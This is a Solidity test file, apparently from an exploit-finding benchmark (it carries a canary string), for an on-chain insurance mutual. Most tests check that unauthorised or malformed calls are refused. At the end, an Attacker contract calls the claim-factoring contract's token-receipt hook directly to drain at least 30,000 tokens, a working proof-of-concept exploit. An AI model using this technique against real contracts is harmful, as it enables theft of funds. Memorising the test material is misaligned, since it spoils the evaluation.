// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

// assay-canary-4fca8c36-e2c5-40c1-9b2f-1b0b11394f31
import "../Base.sol";

contract Attacker {
    function run(ClaimFactor _factor, uint256 _id) external {
        try _factor.onERC721Received(address(this), address(this), _id, "") {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
    }

    // ------------------------------------------------------------------ refusals

    function test_RefusesStrangers() public {
        bytes memory why = bytes("AccessControl: account");
        IMutual.Offices memory none;
        refused(EVE, address(mutual), abi.encodeCall(mutual.open, (none)), why);
        refused(EVE, address(mutual), abi.encodeCall(mutual.handOver, (EVE)), why);
        refused(EVE, address(mutual), abi.encodeCall(mutual.resume, ()), why);
        refused(CHAIR, address(mutual), abi.encodeCall(mutual.halt, ()), why);
        why = bytes("mutual: not the chair");
        refused(CLERK, address(reserve), abi.encodeCall(reserve.spend, (CLERK, 1)), why);
        refused(CLERK, address(frost), abi.encodeCall(frost.setScale, (-10, -20, 1)), why);
        why = bytes("mutual: not a clerk");
        refused(EVE, address(factory), abi.encodeCall(factory.make, (VALE, EVE)), why);
        refused(EVE, address(rates), abi.encodeCall(rates.setRate, (address(vale), 1, 1)), why);
        refused(EVE, address(feed), abi.encodeCall(feed.setStation, (EVE, VALE)), why);
        refused(EVE, address(claims), abi.encodeCall(claims.object, (upheldId)), bytes("mutual: not a warden"));
        why = bytes("mutual: not the book");
        refused(EVE, address(vale), abi.encodeCall(vale.sell, (0, 30_000, 30_001, 1)), why);
        refused(EVE, address(vale), abi.encodeCall(vale.unwind, (0, 30_001, 30_000, 1, EVE)), why);
        refused(EVE, address(vale), abi.encodeCall(vale.unlock, (1)), why);
        why = bytes("mutual: not the claims");
        refused(EVE, address(vale), abi.encodeCall(vale.setAside, (1)), why);
        refused(EVE, address(vale), abi.encodeCall(vale.putBack, (1)), why);
        refused(EVE, address(vale), abi.encodeCall(vale.pay, (1, EVE)), why);
        refused(EVE, address(book), abi.encodeCall(book.use, (ANAS, 1)), why);
        refused(EVE, address(guild), abi.encodeCall(guild.open, (99)), why);
        refused(EVE, address(guild), abi.encodeCall(guild.close, (1)), why);
        refused(EVE, address(guild), abi.encodeCall(guild.reward, (1, 0)), why);
        why = bytes("mutual: not the treaties");
        refused(EVE, address(vale), abi.encodeCall(vale.payPrice, (1, EVE)), why);
        refused(EVE, address(vale), abi.encodeCall(vale.receivePrice, (1)), why);
        refused(EVE, address(vale), abi.encodeCall(vale.assume, (1)), why);
        refused(EVE, address(coast), abi.encodeCall(coast.release, (1)), why);
        refused(EVE, address(coast), abi.encodeCall(coast.payAssumed, (1, EVE)), why);
    }

    function test_RefusesSettings() public {
        IMutual.Offices memory none;
        refused(CHAIR, address(mutual), abi.encodeCall(mutual.open, (none)), "open: is open");
        refused(CHAIR, address(mutual), abi.encodeCall(mutual.handOver, (address(0))), "handOver: bad chair");
        refused(CHAIR, address(mutual), abi.encodeCall(mutual.handOver, (CHAIR)), "handOver: bad chair");
        refused(CLERK, address(factory), abi.encodeCall(factory.make, (0, EVE)), "make: bad pool");
        refused(CLERK, address(factory), abi.encodeCall(factory.make, (VALE, address(0))), "make: bad pool");
        refused(CLERK, address(rates), abi.encodeCall(rates.setRate, (address(vale), 0, 1)), "setRate: bad rate");
        refused(CLERK, address(rates), abi.encodeCall(rates.setRate, (address(vale), 1, 5_000)), "setRate: bad rate");
        refused(CHAIR, address(frost), abi.encodeCall(frost.setScale, (-20, -20, 1)), "setScale: bad scale");
        refused(CHAIR, address(frost), abi.encodeCall(frost.setScale, (0, -20, 1)), "setScale: bad scale");
        refused(CHAIR, address(frost), abi.encodeCall(frost.setScale, (-10, -20, 0)), "setScale: bad part");
        refused(CHAIR, address(frost), abi.encodeCall(frost.setScale, (-10, -20, 10_000)), "setScale: bad part");
        vm.prank(CLERK);
        address made = factory.make("FEN", EVE);
        refused(EVE, address(book), abi.encodeCall(book.priceOf, (made, 1e18, 7)), "perDay: no rate");
        vm.prank(EVE);
        crown.approve(made, ALL);
        put(EVE, CoverPool(made), 1_000e18);
        (address best, ) = lens.cheapest("FEN", 100e18, 7);
        require(best == address(0), "the lens knows it");
    }

    function test_RefusesSales() public {
        sale(address(this), 100e18, 7, ALL, "buy: no such pool");
        sale(address(hill), 100e18, 6, ALL, "buy: bad term");
        sale(address(hill), 100e18, 366, ALL, "buy: bad term");
        sale(address(hill), 99e18, 7, ALL, "buy: bad sum");
        sale(address(hill), 250_000e18, 7, ALL, "buy: bad sum");
        sale(address(hill), 10_000e18, 7, 1e18, "buy: too expensive");
        buy(EVE, hill, Peril.Damage, 190_000e18, 7);
        sale(address(hill), 190_000e18, 7, ALL, "sell: no room");
        vm.prank(WARDEN);
        mutual.halt();
        sale(address(hill), 100e18, 7, ALL, "buy: halted");
    }

    function test_RefusesCancellations() public {
        address where = address(book);
        refused(EVE, where, abi.encodeCall(book.cancel, (ANAS)), "cancel: not the holder");
        refused(CEE, where, abi.encodeCall(book.cancel, (FROZEN)), "cancel: closed or used");
        refused(FAY, where, abi.encodeCall(book.cancel, (FAYS)), "cancel: has a claim");
        uint256 id = buy(EVE, hill, Peril.Damage, 1_000e18, 7);
        vm.prank(ANA);
        book.cancel(ANAS);
        refused(ANA, where, abi.encodeCall(book.cancel, (ANAS)), "cancel: closed or used");
        later(7 days);
        refused(EVE, where, abi.encodeCall(book.cancel, (id)), "cancel: nothing is left");
    }

    function test_RefusesEndings() public {
        address where = address(book);
        refused(EVE, where, abi.encodeCall(book.expire, (ANAS)), "expire: in force");
        refused(EVE, where, abi.encodeCall(book.expire, (99)), "expire: closed");
        claims.pay(upheldId);
        book.expire(DEES);
        refused(EVE, where, abi.encodeCall(book.expire, (DEES)), "expire: closed");
        where = address(reserve);
        refused(ANA, where, abi.encodeCall(reserve.payBonus, (ANAS)), "payBonus: runs or was used");
        refused(DEE, where, abi.encodeCall(reserve.payBonus, (DEES)), "payBonus: runs or was used");
        vm.prank(ANA);
        book.cancel(ANAS);
        reserve.payBonus(ANAS);
        refused(ANA, where, abi.encodeCall(reserve.payBonus, (ANAS)), "payBonus: was paid");
    }

    function test_RefusesClaims() public {
        address where = address(claims);
        refused(CEE, where, abi.encodeCall(claims.file, (CEES, 1e18, "frost")), "file: other peril");
        refused(EVE, where, abi.encodeCall(claims.file, (ANAS, 1e18, "hail")), "claim: not the holder");
        refused(FAY, where, abi.encodeCall(claims.file, (FAYS, 1e18, "hail")), "claim: has one");
        refused(ANA, where, abi.encodeCall(claims.file, (ANAS, 0, "hail")), "claim: bad amount");
        refused(ANA, where, abi.encodeCall(claims.file, (ANAS, 100_001e18, "hail")), "claim: bad amount");
        uint256 id = buy(ANA, hill, Peril.Damage, 1_000e18, 7);
        refused(ANA, where, abi.encodeCall(claims.file, (id, 1e18, "hail")), "claim: not in time");
        refused(DEE, where, abi.encodeCall(claims.drop, (upheldId)), "drop: no vote");
        refused(EVE, where, abi.encodeCall(claims.drop, (votingId)), "drop: not the holder");
        refused(EVE, where, abi.encodeCall(claims.resolve, (upheldId)), "resolve: no vote");
        refused(EVE, where, abi.encodeCall(claims.resolve, (votingId)), "close: too early");
        refused(EVE, where, abi.encodeCall(claims.pay, (votingId)), "pay: not upheld");
        refused(WARDEN, where, abi.encodeCall(claims.object, (upheldId)), "object: too late");
        refused(WARDEN, where, abi.encodeCall(claims.object, (votingId)), "object: too late");
        vm.prank(CEE);
        uint256 claimId = claims.fileFrost(CEES, DAY + 38);
        refused(EVE, where, abi.encodeCall(claims.pay, (claimId)), "pay: too early");
        vm.prank(WARDEN);
        claims.object(claimId);
        refused(WARDEN, where, abi.encodeCall(claims.object, (claimId)), "object: too late");
        refused(CEE, where, abi.encodeCall(claims.fileFrost, (CEES, DAY + 38)), "fileFrost: day is used");
        later(3 days);
        refused(FAY, where, abi.encodeCall(claims.drop, (votingId)), "drop: vote is over");
        later(19 days);
        refused(ANA, where, abi.encodeCall(claims.file, (id, 1e18, "hail")), "claim: not in time");
    }

    function test_RefusesFrosts() public {
        address where = address(claims);
        refused(ANA, where, abi.encodeCall(claims.fileFrost, (ANAS, DAY + 38)), "payoutOf: other peril");
        refused(CEE, where, abi.encodeCall(claims.fileFrost, (CEES, DAY + 37)), "minimumOf: not known");
        uint256 id = buy(EVE, vale, Peril.Frost, 1_000e18, 7);
        at(41, 9 hours);
        refused(EVE, where, abi.encodeCall(claims.fileFrost, (id, DAY + 38)), "payoutOf: not covered");
        post(VALE, 0x20, 40, -19, -19, -70);
        refused(CEE, where, abi.encodeCall(claims.fileFrost, (CEES, DAY + 40)), "payoutOf: no frost");
        at(49, 9 hours);
        post(VALE, 0x20, 48, -60, -60, -60);
        refused(EVE, where, abi.encodeCall(claims.fileFrost, (id, DAY + 48)), "payoutOf: not covered");
    }

    function test_RefusesReadings() public {
        reading(VALE, 0x20, 40, "post: bad day");
        reading(VALE, 0x20, 34, "post: bad day");
        reading(VALE, 0x20, 38, "post: is known");
        reading(VALE, 0x30, 39, "post: no station");
        (int256[] memory v, bytes[] memory s) = readings(VALE, 0x20, 39, -1, -2, -3);
        int256[] memory two = new int256[](2);
        bytes[] memory both = new bytes[](2);
        (two[0], two[1], both[0], both[1]) = (v[0], v[1], s[0], s[1]);
        refused(EVE, address(feed), abi.encodeCall(feed.post, (VALE, DAY + 39, two, both)), "post: not all stations");
        bytes[] memory more = new bytes[](4);
        (more[0], more[1], more[2]) = (s[0], s[1], s[2]);
        refused(EVE, address(feed), abi.encodeCall(feed.post, (VALE, DAY + 39, v, more)), "post: bad length");
        (v[2], s[2]) = (v[1], s[1]);
        refused(EVE, address(feed), abi.encodeCall(feed.post, (VALE, DAY + 39, v, s)), "post: bad order");
        vm.prank(CLERK);
        feed.setStation(EVE, VALE);
        reading(VALE, 0x20, 39, "post: not all stations");
        uint256[3] memory k = keys(0x40);
        vm.startPrank(CLERK);
        feed.setStation(vm.addr(k[0]), "FEN");
        feed.setStation(vm.addr(k[1]), "FEN");
        vm.stopPrank();
        (v, s) = readings("FEN", 0x40, 39, -1, -2, -3);
        (two[0], two[1], both[0], both[1]) = (v[0], v[1], s[0], s[1]);
        refused(EVE, address(feed), abi.encodeCall(feed.post, ("FEN", DAY + 39, two, both)), "post: not all stations");
    }

    function test_RefusesVotes() public {
        address where = address(guild);
        refused(EVE, where, abi.encodeCall(guild.vote, (votingId, true)), "vote: no stake");
        vm.startPrank(FAY);
        sprig.approve(where, ALL);
        guild.stake(1e18);
        vm.stopPrank();
        refused(FAY, where, abi.encodeCall(guild.vote, (votingId, true)), "vote: staked too late");
        vote(votingId, true);
        refused(GUS, where, abi.encodeCall(guild.vote, (votingId, true)), "vote: voted");
        refused(GUS, where, abi.encodeCall(guild.vote, (upheldId, true)), "vote: not now");
        refused(HAL, where, abi.encodeCall(guild.collect, (votingId)), "collect: nothing");
        refused(HAL, where, abi.encodeCall(guild.collect, (upheldId)), "collect: nothing");
        vm.prank(ANA);
        uint256 id = claims.file(ANAS, 1_000e18, "hail");
        vote(id, false);
        later(3 days);
        claims.resolve(id);
        refused(FAY, where, abi.encodeCall(guild.collect, (id)), "collect: nothing");
        refused(HAL, where, abi.encodeCall(guild.collect, (id)), "collect: nothing");
    }

    function test_RefusesUnderwriters() public {
        address where = address(vale);
        refused(CEE, where, abi.encodeCall(vale.deposit, (1e18 - 1)), "deposit: too small");
        refused(CEE, where, abi.encodeCall(vale.giveNotice, (60_001e18)), "giveNotice: not that many");
        refused(CEE, where, abi.encodeCall(vale.leave, (0)), "leave: no notice");
        vm.prank(CEE);
        vale.giveNotice(1e18);
        vm.prank(BO);
        vale.giveNotice(1_000_000e18 - 1e15);
        later(7 days - 1);
        refused(CEE, where, abi.encodeCall(vale.leave, (0)), "leave: too early");
        later(1);
        refused(CEE, where, abi.encodeCall(vale.leave, (1e18)), "leave: too little");
        refused(BO, where, abi.encodeCall(vale.leave, (0)), "leave: capital is locked");
        later(7 days);
        refused(CEE, where, abi.encodeCall(vale.leave, (0)), "leave: too late");
    }

    function test_RefusesTreaties() public {
        address a = address(coast);
        address b = address(hill);
        proposal(MIA, a, EVE, 1, 7, 1, ITreaties.NotPool.selector);
        proposal(MIA, EVE, b, 1, 7, 1, ITreaties.NotPool.selector);
        proposal(MAX, a, b, 1, 7, 1, ITreaties.NotManager.selector);
        proposal(MIA, a, a, 1, 7, 1, ITreaties.BadTerms.selector);
        proposal(MIA, a, b, 0, 7, 1, ITreaties.BadTerms.selector);
        proposal(MIA, a, b, 10_001, 7, 1, ITreaties.BadTerms.selector);
        proposal(MIA, a, b, 1, 7, 0, ITreaties.BadTerms.selector);
        proposal(MIA, a, b, 1, 6, 1, ITreaties.BadTerms.selector);
        proposal(MIA, a, b, 1, 366, 1, ITreaties.BadTerms.selector);
        address where = address(treaties);
        refused(MIA, where, abi.encodeCall(treaties.accept, (99)), abi.encode(ITreaties.NotPool.selector));
        refused(MAX, where, abi.encodeCall(treaties.withdraw, (99)), abi.encode(ITreaties.NotPool.selector));
        refused(MIA, where, abi.encodeCall(treaties.accept, (2)), abi.encode(ITreaties.IsBound.selector));
        refused(MAX, where, abi.encodeCall(treaties.withdraw, (2)), abi.encode(ITreaties.IsBound.selector));
        vm.prank(MAX);
        uint256 id = treaties.propose(address(vale), a, 1, 7, 0, 1);
        refused(MAX, where, abi.encodeCall(treaties.accept, (id)), abi.encode(ITreaties.NotManager.selector));
        refused(MIA, where, abi.encodeCall(treaties.accept, (id)), abi.encode(ITreaties.HasTreaty.selector));
        refused(MIA, where, abi.encodeCall(treaties.withdraw, (id)), abi.encode(ITreaties.NotManager.selector));
        refused(EVE, where, abi.encodeCall(treaties.close, (id)), abi.encode(ITreaties.NotBound.selector));
        refused(EVE, where, abi.encodeCall(treaties.close, (2)), abi.encode(ITreaties.Runs.selector));
        vm.startPrank(MIA);
        id = treaties.propose(a, b, 1, 7, 600_000e18, 1);
        uint256 next = treaties.propose(a, b, 1, 7, 0, 600_000e18);
        vm.stopPrank();
        refused(MAX, where, abi.encodeCall(treaties.accept, (id)), "payPrice: no room");
        refused(MAX, where, abi.encodeCall(treaties.accept, (next)), "assume: no room");
    }

    function test_RefusesOrders() public {
        address where = address(brokers);
        IBrokers.Order memory o = order(brokers.nonceOf(JO));
        bytes memory signature = signed(JO_KEY, brokers.digest(o));
        refused(EVE, where, abi.encodeCall(brokers.place, (o, signature)), abi.encode(IBrokers.NotRegistered.selector));
        refused(EVE, where, abi.encodeCall(brokers.register, (0)), abi.encode(IBrokers.BadPart.selector));
        refused(EVE, where, abi.encodeCall(brokers.register, (1_001)), abi.encode(IBrokers.BadPart.selector));
        vm.prank(EVE);
        brokers.register(1_000);
        o.maxPart = 999;
        refused(EVE, where, abi.encodeCall(brokers.place, (o, signature)), abi.encode(IBrokers.BadPart.selector));
        o.maxPart = 1_001;
        refused(EVE, where, abi.encodeCall(brokers.place, (o, signature)), abi.encode(IBrokers.BadSignature.selector));
        o.nonce++;
        refused(EVE, where, abi.encodeCall(brokers.place, (o, signature)), abi.encode(IBrokers.BadNonce.selector));
        o.deadline = block.timestamp - 1;
        refused(EVE, where, abi.encodeCall(brokers.place, (o, signature)), abi.encode(IBrokers.Late.selector));
    }

    function test_RefusesSellers() public {
        address where = address(factor);
        refused(EVE, where, abi.encodeCall(factor.withdraw, (EVE, 1)), abi.encode(ClaimFactor.NotOwner.selector));
        refused(EVE, where, abi.encodeCall(factor.giveBack, (1, EVE)), abi.encode(ClaimFactor.NotOwner.selector));
        bytes memory call = abi.encodeWithSignature("safeTransferFrom(address,address,uint256)", FAY, where, FAYS);
        refused(FAY, address(book), call, abi.encode(ClaimFactor.NotUpheld.selector));
        vm.prank(DEE);
        book.safeTransferFrom(DEE, where, DEES);
        refused(address(this), where, abi.encodeCall(factor.giveBack, (DEES, EVE)), abi.encode(ClaimFactor.HasClaim.selector));
    }

    // Requires that a call is refused, and that the reason is this text or begins with it, or is this error.
    function refused(address _who, address _where, bytes memory _call, bytes memory _why) private {
        if (_who != address(this)) vm.prank(_who);
        (bool done, bytes memory data) = _where.call(_call);
        require(!done && data.length >= 4, "not refused");
        if (data.length > 4) {
            bytes memory text = new bytes(data.length - 4);
            for (uint256 i = 4; i < data.length; i++) {
                text[i - 4] = data[i];
            }
            data = bytes(abi.decode(text, (string)));
        }
        require(data.length >= 4 && _why.length >= 4, "no reason");
        for (uint256 i = 0; i < data.length && i < _why.length; i++) {
            require(data[i] == _why[i], "refused for another reason");
        }
    }

    function sale(address _pool, uint256 _sum, uint32 _term, uint256 _most, bytes memory _why) private {
        refused(EVE, address(book), abi.encodeCall(book.buy, (_pool, Peril.Damage, _sum, _term, _most, EVE)), _why);
    }

    function reading(bytes32 _region, uint256 _first, uint32 _day, bytes memory _why) private {
        (int256[] memory v, bytes[] memory s) = readings(_region, _first, _day, -1, -2, -3);
        refused(EVE, address(feed), abi.encodeCall(feed.post, (_region, DAY + _day, v, s)), _why);
    }

    function proposal(address _by, address _a, address _b, uint16 _part, uint32 _term, uint256 _limit, bytes4 _why) private {
        refused(
            _by,
            address(treaties),
            abi.encodeCall(treaties.propose, (_a, _b, _part, _term, 0, _limit)),
            abi.encode(_why)
        );
    }

    function exploit() public {
        other.run(factor, DEES);
    }

    function test_Exploit() public {
        exploit();
        require(crown.balanceOf(address(other)) >= 30_000e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(factor);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
